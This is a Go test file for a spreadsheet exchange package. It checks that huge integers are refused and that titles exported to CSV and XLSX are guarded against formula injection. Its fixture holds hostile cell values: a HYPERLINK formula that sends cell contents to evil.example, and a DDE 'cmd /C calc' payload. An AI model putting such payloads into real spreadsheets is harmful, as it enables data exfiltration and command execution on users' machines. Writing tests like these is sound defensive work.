package exchange

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"os"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"

	"github.com/rubric-dev/rubric/formulas"
)

// TestIssue11HugeIntegers: 2^53 + 1 is refused as written, in CSV and in XLSX (where the cell
// holds the number, not a text), instead of being stored as 2^53; a 16-digit whole number
// below 2^53 is kept exactly, not read at 15 digits.
func TestIssue11HugeIntegers(t *testing.T) {
	fx := mustMini(t)
	const msg = "9007199254740993 is too large: numbers are exact up to ±9007199254740991"
	t.Run("ErrCSV", func(t *testing.T) {
		got, err := ReadValues([]byte("unit,target\na,9007199254740993\n"), "", "", fx.scheme, fx.units)
		checkProblems(t, got, err, "csv", []Problem{{Row: 2, Column: "2", Metric: "target", Unit: "a", Value: "9007199254740993", Message: msg}})
	})
	t.Run("ErrCSVThousands", func(t *testing.T) {
		got, err := ReadValues([]byte("unit,target\na,\"9,007,199,254,740,993\"\n"), "", "", fx.scheme, fx.units)
		checkProblems(t, got, err, "csv", []Problem{{Row: 2, Column: "2", Metric: "target", Unit: "a", Value: "9,007,199,254,740,993", Message: msg}})
	})
	t.Run("ErrXLSX", func(t *testing.T) {
		data := mustWorkbook(t, "Sheet1", [][]any{{"unit", "target"}, {"a", int64(9007199254740993)}})
		got, err := ReadValues(data, "x.xlsx", "", fx.scheme, fx.units)
		checkProblems(t, got, err, "xlsx", []Problem{{Row: 2, Column: "B", Metric: "target", Unit: "a", Value: "9007199254740993", Message: msg}})
	})
	t.Run("OKSixteenDigits", func(t *testing.T) {
		got, err := ReadValues([]byte("unit,target\na,1234567890123456\n"), "", "", fx.scheme, fx.units)
		if err != nil {
			t.Fatal(err)
		}
		if v := got["a"]["target"]; v != 1234567890123456.0 {
			t.Errorf("target = %v, want 1234567890123456", v)
		}
	})
}

// mustHostileMini is the mini scheme with titles a spreadsheet would run as formulas: an item,
// a metric, an output and a unit.
func mustHostileMini(tb testing.TB) *fixture {
	tb.Helper()
	text, err := os.ReadFile("testdata/mini.json")
	if err != nil {
		tb.Fatal(err)
	}
	var doc struct {
		Scheme formulas.Scheme `json:"scheme"`
		Rows   []formulas.Row  `json:"rows"`
	}
	if err := json.Unmarshal(text, &doc); err != nil {
		tb.Fatal(err)
	}
	doc.Scheme.Items[0].Title = `=HYPERLINK("http://evil.example/?"&A1,"点此")`
	doc.Scheme.Metrics[0].Title = `@SUM(1+1)*cmd|' /C calc'!A0`
	doc.Scheme.Metrics[1].Title = "  -2+3"
	doc.Scheme.Outputs[0].Title = "＝1+1"
	doc.Rows[0].Unit.Name = "\t=1+1"
	p, _, err := formulas.Compile(&doc.Scheme)
	if err != nil {
		tb.Fatal(err)
	}
	fx := &fixture{scheme: p.Scheme(), program: p, rows: doc.Rows}
	for _, r := range doc.Rows {
		fx.units = append(fx.units, r.Unit)
	}
	fx.results = p.Evaluate(doc.Rows).Results()
	return fx
}

// checkCSVGuarded fails for any field of a CSV file a spreadsheet would run as a formula.
func checkCSVGuarded(t *testing.T, data []byte) {
	t.Helper()
	records, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte(bom)))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, rec := range records {
		for j, field := range rec {
			if field == "" || field[0] == '\'' {
				continue
			}
			first, _ := utf8.DecodeRuneInString(strings.TrimLeft(field, " \u3000"))
			if strings.ContainsRune("\t\r\n", rune(field[0])) || strings.ContainsRune(formulaStarts, first) {
				if _, err := strconv.ParseFloat(field, 64); err == nil && i > 0 {
					continue // a negative number is a number
				}
				t.Errorf("row %d column %d: %q would run as a formula", i+1, j+1, field)
			}
		}
	}
}

// ownFormula is a formula the results workbook writes itself: the totals and averages rows.
var ownFormula = regexp.MustCompile(`^(SUM|AVERAGE)\([A-Z]+[0-9]+:[A-Z]+[0-9]+\)$`)

// TestIssue11HeaderInjection: titles (item, metric, output) in the header rows of the results
// CSV and of the CSV template are guarded like data cells, and the guarded template reads back;
// in the workbooks every cell is a value, none a formula.
func TestIssue11HeaderInjection(t *testing.T) {
	fx := mustHostileMini(t)
	t.Run("OKResultsCSV", func(t *testing.T) {
		var b bytes.Buffer
		if err := WriteCSV(&b, fx.program, fx.results, CSVOptions{}); err != nil {
			t.Fatal(err)
		}
		checkCSVGuarded(t, b.Bytes())
		if !strings.Contains(b.String(), `'=HYPERLINK(`) || !strings.Contains(b.String(), "'＝1+1") {
			t.Errorf("titles not guarded:\n%s", b.String())
		}
	})
	t.Run("OKTemplateCSV", func(t *testing.T) {
		var b bytes.Buffer
		if err := WriteTemplateCSV(&b, fx.scheme, fx.units, map[string]map[string]any{"a": {"target": 7.0}}); err != nil {
			t.Fatal(err)
		}
		checkCSVGuarded(t, b.Bytes())
		// Read back without the row of codes: the guarded titles still name their metrics.
		lines := strings.SplitN(b.String(), "\r\n", 3)
		got, err := ReadValues([]byte(lines[0]+"\r\n"+lines[2]), "t.csv", "", fx.scheme, fx.units)
		if err != nil {
			t.Fatal(err)
		}
		if got["a"]["target"] != 7.0 {
			t.Errorf("read back %v", got)
		}
	})
	for _, tt := range []struct {
		name  string
		write func(w *bytes.Buffer) error
	}{
		{"OKResultsXLSX", func(w *bytes.Buffer) error {
			return WriteXLSX(w, fx.program, fx.results, Meta{Revision: 1, Generated: generated})
		}},
		{"OKTemplateXLSX", func(w *bytes.Buffer) error {
			return WriteTemplateXLSX(w, fx.scheme, fx.units, nil, Meta{Revision: 1, Generated: generated})
		}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			var b bytes.Buffer
			if err := tt.write(&b); err != nil {
				t.Fatal(err)
			}
			f := mustOpen(t, b.Bytes())
			seen := false
			for _, sheet := range f.GetSheetList() {
				rows, err := f.GetRows(sheet)
				if err != nil {
					t.Fatal(err)
				}
				for i, row := range rows {
					for j, v := range row {
						ref, _ := excelize.CoordinatesToCellName(j+1, i+1)
						formula, err := f.GetCellFormula(sheet, ref)
						if err != nil || (formula != "" && !ownFormula.MatchString(formula)) {
							t.Errorf("%s!%s holds the formula %q (%v)", sheet, ref, formula, err)
						}
						seen = seen || strings.HasPrefix(v, "@SUM(1+1)") || strings.HasPrefix(v, "=HYPERLINK")
					}
				}
			}
			if !seen {
				t.Errorf("the hostile title is in no cell")
			}
		})
	}
}
